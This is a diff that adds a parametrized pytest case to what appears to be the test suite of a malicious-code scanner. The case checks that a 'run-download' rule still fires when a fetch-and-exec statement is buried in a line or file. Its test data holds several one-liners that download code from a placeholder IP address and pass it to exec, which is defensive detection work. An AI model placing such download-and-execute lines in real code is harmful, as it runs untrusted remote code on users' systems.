@@ -316,3 +316,16 @@ def test_two_slashes_end_nothing_where_they_begin_no_comment() -> None:
     assert [one.text for one in halved] == ["n = f(a // b)", "x = g(n)"]
     listed = list(script_statements("n=$(ls /*)\nm=$(ls /tmp)\n", "x.sh", kind="hash-script"))
     assert len(listed) == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = 1; exec(__import__('urllib.request').request.urlopen('http://203.0.113.7/').read())",
+        "if True: exec(__import__('urllib.request').request.urlopen('http://203.0.113.7/').read())",
+        "exec(__import__('urllib.request').request.urlopen('http://203.0.113.7/').read())\nthis does not parse",
+        "try: pass\nexcept Error: exec(getattr(__import__('urllib.request'), 'request').urlopen('http://203.0.113.7/').read())",
+    ],
+)
+def test_no_other_statement_of_its_line_or_file_keeps_one_from_being_folded(text: str) -> None:
+    assert "run-download" in {found.rule for found in scan_text(text, "x.py").findings}
